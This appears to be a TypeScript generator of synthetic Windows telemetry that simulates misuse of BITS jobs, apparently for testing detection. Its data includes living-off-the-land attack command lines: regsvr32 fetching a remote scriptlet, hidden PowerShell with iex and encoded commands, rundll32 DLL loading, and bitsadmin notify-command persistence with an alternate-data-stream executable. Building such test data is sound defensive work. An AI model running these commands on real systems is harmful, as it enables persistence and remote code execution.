/** Jobs that are changed: who is told, how often, through whom, as whom. */
import { bitsadminEvent, word } from '../bitsadmin.js';
import { bitsEvent, processEvent } from '../events.js';
import { encoded } from '../powershell.js';
import { executables, folder, hostName, jobName, path, privateAddress, publicAddress, url, userFolder } from '../words.js';
import type { Scene } from '../words.js';
import type { Acts } from './acts.js';

const svchost = { image: 'C:\\Windows\\System32\\svchost.exe', line: '' };

/** Of the service's process: shared or by itself, on Windows 7 without naming the service. */
export function serviceParent({ chance }: Scene): { readonly image: string; readonly line: string; readonly namesService: boolean } {
  const named = chance.is(0.75);
  const line = `${chance.cased('C:\\Windows\\System32\\svchost.exe')} ${named ? chance.pick(['-k netsvcs -p -s BITS', '-k netsvcs -s BITS', '-k netsvcs -p -s bits']) : '-k netsvcs'}`;
  return { ...svchost, line, namesService: named };
}

const programs = [
  ['C:\\Windows\\System32\\cmd.exe', 'Cmd.Exe', '/c whoami > C:\\temp\\t.txt'], ['C:\\Windows\\System32\\regsvr32.exe', 'REGSVR32.EXE', '/u /s /i:https://files.example/x.sct scrobj.dll'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'PowerShell.EXE', '-nop -w hidden -c iex $env:x'], ['C:\\Windows\\System32\\rundll32.exe', 'RUNDLL32.EXE', 'C:\\ProgramData\\a.dll,Start'],
] as const;

const set = (verb: string, ...values: readonly string[]) => (scene: Scene) => [bitsadminEvent(scene, [word(`/${verb}`), jobName(scene), ...values])];

export const settingActs: Acts = {
  C01: (scene) => [bitsadminEvent(scene, [word('/setnotifycmdline'), jobName(scene), scene.chance.pick(['C:\\Windows\\system32\\notepad.exe', path(scene, 'exe'), 'cmd.exe', path(scene, 'bat')]), 'NULL'])],
  C02: (scene) => [bitsadminEvent(scene, [word('/setnotifycmdline'), jobName(scene), scene.chance.pick(['regsvr32.exe', 'regsvr32', 'C:\\Windows\\System32\\regsvr32.exe']), `/u /s /i:${url(scene, { extension: 'sct' })} scrobj.dll`])],
  C04: (scene) => [bitsadminEvent(scene, [word('/setnotifycmdline'), jobName(scene), scene.chance.cased('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'), `powershell.exe ${scene.chance.shuffled(['-nop', '-w hidden']).join(' ')} ${scene.chance.pick(['-enc', '-e', '-EncodedCommand'])} ${encoded(scene.chance.letters(3, 20))}`])],
  C05: (scene) => [bitsadminEvent(scene, [word('/setnotifycmdline'), jobName(scene), `${folder(scene)}\\${scene.chance.letters(1, 5)}.txt:${scene.chance.letters(2, 5)}.exe`, 'NULL'])],
  C08: (scene) => set('setminretrydelay', scene.chance.pick(['60', '30', '120', '90', '300']))(scene),
  C09: (scene) => {
    const { namesService, ...parent } = serviceParent(scene);
    const { chance } = scene;
    if (!namesService || chance.is(0.4)) {
      const [image, original, args] = chance.pick(programs);
      // As it was given: without the name of the program, which the caller may have put there or not.
      return [processEvent(scene, { image, original, parent, line: namesService && chance.is(0.5) ? `${image.split('\\').at(-1) ?? ''} ${args}` : args })];
    }
    const image = `${userFolder(scene)}\\${chance.letters(1, 8)}.exe`;
    return [processEvent(scene, { image, parent, line: chance.pick([image, `"${image}"`, `${image} ${chance.letters(1, 6)}`]) })];
  },
  C11: (scene) => [bitsEvent(scene, scene.chance.pick([63, 64]), { Job: jobName(scene), Url: url(scene), Pgm: scene.chance.pick([path(scene, scene.chance.pick(executables)), 'C:\\Windows\\System32\\cmd.exe']), hr: '2147942402' })],
  C12: (scene) => [bitsEvent(scene, 6, { jobTitle: jobName(scene), jobId: scene.jobId, jobOwner: scene.user })],
  D01: (scene) => set('setcustomheaders', `User-Agent:"${scene.chance.letters(3, 8)}/${scene.chance.digits(1)}.0"`, ...(scene.chance.is(0.6) ? [`X-${scene.chance.letters(2, 6)}:${scene.chance.hex(4)}`] : []))(scene),
  D02: (scene) => set('makecustomheaderswriteonly')(scene),
  D04: (scene) => set('setclientcertificatebyname', scene.chance.pick(['1', '2', 'CURRENT_USER', 'LOCAL_MACHINE']), scene.chance.pick(['MY', 'ROOT', 'CA']), `${scene.chance.letters(2, 8)}-client`)(scene),
  D06: (scene) => set('setproxysettings', scene.chance.cased('OVERRIDE'), `${scene.chance.pick([privateAddress(scene), publicAddress(scene), hostName(scene)])}:${scene.chance.pick([8080, 3128, 1080])}`, scene.chance.pick(['NULL', '<local>']))(scene),
  D09: (scene) => [bitsadminEvent(scene, [word('/takeownership'), scene.chance.is(0.6) ? scene.chance.guid() : jobName(scene)])],
  D10: (scene) => scene.chance.pick([set('sethelpertokenflags', scene.chance.pick(['1', '2', '3'])), set('sethelpertoken'), set('setaclflag', scene.chance.pick(['OGDS', 'D', 'OD']))])(scene),
  D11: (scene) => [bitsadminEvent(scene, [word('/peercaching'), word('/setconfigurationflags'), scene.chance.pick(['1', '2', '3'])])],
};
